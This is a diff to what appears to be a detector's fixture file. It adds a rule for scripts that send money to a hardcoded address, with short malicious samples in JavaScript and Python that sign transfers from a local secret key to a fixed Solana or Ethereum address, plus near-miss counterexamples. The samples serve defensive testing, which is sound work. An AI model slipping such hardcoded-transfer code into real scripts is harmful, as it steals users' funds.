@@ -280,6 +280,26 @@ export const scriptThefts: readonly RuleExamples[] = [
     ],
   },
   {
+    rule: "money-to-address-in-script",
+    malicious: [
+      {
+        "scripts/tip.mjs":
+          'const me = Keypair.fromSecretKey(bytes);\ntx.add(SystemProgram.transfer({ fromPubkey: me.publicKey, toPubkey: new PublicKey("7vQn2VdW3b1kq9mYx5rT8uHc4eJpKsZaF6gDoNiXwBtM"), lamports: rest }));\n',
+      },
+      {
+        "scripts/swap.py":
+          'tx = {"to": "0x9F4c1b0A7e5D2aC8e61B37d04fE2a9b8C6d5E3f1", "value": fee}\nsigned = account.sign_transaction(tx, private_key)\nw3.eth.send_raw_transaction(signed.raw_transaction)\n',
+      },
+    ],
+    nearMiss: [
+      {
+        "scripts/tip.mjs":
+          "const me = Keypair.fromSecretKey(bytes);\ntx.add(SystemProgram.transfer({ fromPubkey: me.publicKey, toPubkey: new PublicKey(process.argv[2]), lamports }));\n",
+      },
+      { "scripts/show.py": 'print({"to": "0x9F4c1b0A7e5D2aC8e61B37d04fE2a9b8C6d5E3f1"})\n' },
+    ],
+  },
+  {
     rule: "address-replaced-by-script",
     malicious: [
       {
